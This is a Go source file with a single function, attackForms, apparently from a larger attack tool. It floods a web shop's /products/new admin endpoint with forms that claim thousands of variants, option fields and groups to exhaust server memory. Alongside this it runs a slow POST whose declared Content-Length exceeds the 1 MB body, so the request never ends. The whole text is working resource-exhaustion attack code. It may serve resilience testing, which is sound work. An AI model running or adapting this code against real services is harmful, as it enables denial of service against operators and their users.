package main

import (
	"context"
	"fmt"
	"net/http"
	"strings"
	"sync"
)

// attackForms sends product forms that claim many more rows and columns than they have fields, and, without a session,
// large forms that never end.
func attackForms(ctx context.Context, a *attacker) error {
	session, err := a.session(ctx)
	if err != nil {
		return err
	}

	form := append(session, header{"Content-Type", "application/x-www-form-urlencoded"})
	columns := "step=x&variants=5000" + strings.Repeat("&option=", 6000)
	var groups strings.Builder
	groups.WriteString("step=x&groups=5000")

	for i := range 5000 {
		fmt.Fprintf(&groups, "&group.%d.items=5000", i)
	}

	large := "_keep=1&name=" + strings.Repeat("x", 1_000_000)
	head := fmt.Sprintf("POST /products/new HTTP/1.1\r\nHost: %s\r\nContent-Type: "+
		"application/x-www-form-urlencoded\r\n"+
		"Content-Length: %d\r\n\r\n", a.admin, len(large)+1)

	var group sync.WaitGroup
	group.Go(func() { a.stall(ctx, a.admin, 200, []byte(head+large), "", 0) })
	group.Go(func() {
		flood(ctx, 8, 200, func(i int) {
			a.sendTo(ctx, a.admin, http.MethodPost, "/products/new", []byte([]string{columns, groups.String()}[i%2]),
				form...)
		})
	})
	group.Wait()

	return nil
}
